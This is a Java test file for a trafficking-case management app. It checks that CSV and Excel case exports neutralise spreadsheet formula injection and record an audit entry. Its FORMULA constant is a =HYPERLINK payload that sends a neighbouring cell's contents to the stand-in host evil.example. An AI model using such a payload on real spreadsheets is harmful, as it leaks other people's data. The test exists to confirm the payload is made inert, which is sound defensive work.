package org.cthub.app.cases;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.cthub.app.security.Role;
import org.cthub.app.web.WebTest;
import org.cthub.standard.htcds.CaseStatus;
import org.cthub.standard.htcds.TypeOfExploitation;
import org.cthub.store.audit.AuditFilter;
import org.cthub.store.audit.AuditLog;
import org.cthub.store.casework.CaseFiles;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

@WebTest
class CaseExportTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"Open\")";

    @LocalServerPort
    int port;

    @Autowired
    CaseFixtures fixtures;

    @Autowired
    CaseFiles cases;

    @Autowired
    AuditLog audit;

    @Test
    void downloadsTheFilteredOwnCasesAsCsvWithAFormulaMadeInert() throws Exception {
        Cases made = cases();

        HttpResponse<byte[]> response = fixtures.download(port, made.team().caseworker())
                .get("/cases/export.csv?citizenship=NGA");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/csv");
        assertThat(response.headers().firstValue("Content-Disposition").orElseThrow())
                .startsWith("attachment").endsWith(".csv\"");
        assertThat(response.headers().firstValue("Cache-Control")).hasValue("no-store");
        String text = new String(response.body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(
                text.substring(1))).getRecords();
        assertThat(rows).extracting(row -> row.get("Reference"))
                .containsExactlyInAnyOrder(made.formula(), made.plain());
        CSVRecord formula = rows.stream().filter(row -> row.get("Reference").equals(made.formula())).findFirst()
                .orElseThrow();
        assertThat(formula.get("Name")).isEqualTo("'" + FORMULA + " Bello");
        assertThat(formula.get("Citizenship")).isEqualTo("Nigeria");
        assertThat(formula.get("Types of exploitation")).isEqualTo("Forced labour");
        assertThat(audit.page(new AuditFilter(made.team().caseworker().username(), null, "CASE_EXPORT", null,
                null), null, 1)).extracting(entry -> entry.event().detail()).containsExactly("format=csv rows=2");
    }

    @Test
    void downloadsAnExcelWorkbookWhoseCellsAreTextInTheUsersLanguage() throws Exception {
        Cases made = cases();
        Download download = fixtures.download(port, fixtures.account(made.team(), Role.DATA_MANAGER));
        download.get("/cases?lang=es");

        HttpResponse<byte[]> response = download.get("/cases/export.xlsx?citizenship=NGA");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElseThrow())
                .isEqualTo(CaseListController.XLSX);
        assertThat(response.headers().firstValue("Cache-Control")).hasValue("no-store");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.body()))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("Casos");
            assertThat(texts(sheet.getRow(0))).startsWith("Referencia", "Nombre", "Estado");
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            List<String> names = new ArrayList<>();
            for (int row = 1; row <= 2; row++) {
                Cell name = sheet.getRow(row).getCell(1);
                assertThat(name.getCellType()).isEqualTo(CellType.STRING);
                names.add(name.getStringCellValue());
                assertThat(sheet.getRow(row).getCell(2).getStringCellValue()).isEqualTo("Activo");
            }
            assertThat(names).containsExactlyInAnyOrder("'" + FORMULA + " Bello", "Ada Eze");
        }
    }

    /** The team's cases: two Nigerians (one named like a formula), a Peruvian, one referred in from elsewhere. */
    private Cases cases() {
        CaseFixtures.Team team = fixtures.team("EXP");
        CaseFixtures.Team other = fixtures.team("OTH");
        long formula = fixtures.newCase(team, FORMULA, "Bello");
        long plain = fixtures.newCase(team, "Ada", "Eze");
        fixtures.newCase(team, CaseFixtures.record("Rosa", "Quispe", LocalDate.of(1988, 7, 9), CaseStatus.ACTIVE,
                LocalDate.now(), "PER", EnumSet.of(TypeOfExploitation.FORCED_LABOUR)));
        long referred = fixtures.newCase(other, "Zainab", "Okafor");
        fixtures.referAndAccept(referred, other, team);
        return new Cases(team, reference(formula), reference(plain));
    }

    private record Cases(CaseFixtures.Team team, String formula, String plain) {
    }

    private String reference(long caseId) {
        return cases.find(caseId).orElseThrow().reference();
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(cell -> texts.add(cell.getStringCellValue()));
        return texts;
    }
}
